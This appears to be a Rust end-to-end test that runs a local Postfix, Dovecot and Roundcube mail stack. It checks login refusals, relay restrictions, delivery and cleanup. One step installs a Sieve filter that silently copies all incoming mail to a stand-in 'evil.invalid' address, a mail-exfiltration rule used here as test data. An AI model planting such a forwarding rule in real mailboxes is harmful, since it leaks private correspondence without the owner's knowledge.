//! The mail software by itself: it starts in a folder, carries a message, and leaves nothing behind.

use std::os::unix::fs::PermissionsExt as _;
use std::time::{Duration, Instant};

use counterfoil_e2e::mail_client::{Imap, Pop3, Sieve, Smtp, deliver};
use counterfoil_e2e::mail_system::{Dovecot, Ports, Postfix, Roundcube};
use tempfile::TempDir;

const ALICE: &str = "alice@example.org";
const BOB: &str = "bob@example.org";

#[test]
fn it_carries_a_message_and_leaves_nothing_behind() {
    let home = TempDir::new().unwrap();
    let open = std::fs::Permissions::from_mode(0o711);
    std::fs::set_permissions(home.path(), open).unwrap();
    let folder = |name| {
        let folder = home.path().join(name);
        std::fs::create_dir(&folder).unwrap();
        folder
    };
    let ports = Ports::free();
    let mut dovecot = Dovecot::make(&folder("dovecot"), ports);
    let sasl = ports.sasl;
    dovecot.start(&format!(
        "auth_failure_delay = 0
passdb {{
  driver = static
  args = password=secret
}}
service auth {{
  inet_listener {{
    address = 127.0.0.1
    port = {sasl}
  }}
}}"
    ));
    let mut postfix = Postfix::make(&folder("postfix"), ports, &["example.org"]);
    let ask = format!("smtpd_sasl_type = dovecot\nsmtpd_sasl_path = inet:127.0.0.1:{sasl}");
    let submission = format!(
        "127.0.0.1:{} inet n - n - - smtpd\n  -o smtpd_sasl_auth_enable=yes\n  -o smtpd_relay_restrictions=permit_sasl_authenticated,reject",
        ports.submission
    );
    postfix.start(&ask, &submission);
    let mut roundcube = Roundcube::make(&folder("roundcube"), ports);
    roundcube.start("");

    deliver(ports.lmtp, BOB, ALICE, "Subject: by LMTP\n\n.\n");
    let mut smtp = Smtp::connect(ports.submission);
    smtp.log_in(ALICE, "wrong")
        .is_no("a wrong password for SMTP");
    smtp.send(ALICE, &[BOB], "Subject: by nobody\n\n")
        .is_no("a message from nobody");
    smtp.log_in(ALICE, "secret").is_yes("SMTP");
    smtp.send(ALICE, &["somebody@far.invalid"], "Subject: far\n\n")
        .is_no("a message to far away");
    smtp.send(BOB, &[ALICE], "Subject: by SMTP\n\n.\n")
        .is_yes("a message");
    let mut pop3 = Pop3::connect(ports.pop3);
    pop3.log_in(ALICE, "wrong")
        .is_no("a wrong password for POP3");
    let mut sieve = Sieve::connect(ports.sieve);
    sieve
        .log_in(ALICE, "wrong")
        .is_no("a wrong password for filters");
    sieve.log_in(ALICE, "secret").is_yes("filters");
    sieve.run(
        "copies",
        "require [\"copy\"];\nredirect :copy \"x@evil.invalid\";\n",
    );
    assert_eq!(sieve.list(), ["\"copies\" ACTIVE"]);

    let mut imap = Imap::connect(ports.imap);
    imap.log_in(ALICE, "wrong")
        .is_no("a wrong password for IMAP");
    imap.log_in(ALICE, "secret").is_yes("IMAP");
    let started = Instant::now();
    loop {
        let subjects = imap.subjects("INBOX");
        if subjects == ["by LMTP", "by SMTP"] {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{subjects:?}\n{}",
            postfix.log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    imap.idle();
    let place = home.path().to_string_lossy().into_owned();
    assert!(users_of(&place) > 2);
    drop((roundcube, postfix, dovecot));
    assert!(imap.hangs_up_within(Duration::from_secs(1)).is_some());
    assert_eq!(users_of(&place), 0);
    assert_eq!(ports.taken(), None);
}

/// Processes whose command line or folder names this place.
fn users_of(place: &str) -> usize {
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    let uses = processes.filter(|process| {
        let line = std::fs::read(process.path().join("cmdline")).unwrap_or_default();
        let folder = std::fs::read_link(process.path().join("cwd")).unwrap_or_default();
        String::from_utf8_lossy(&line).contains(place) || folder.starts_with(place)
    });
    uses.count()
}
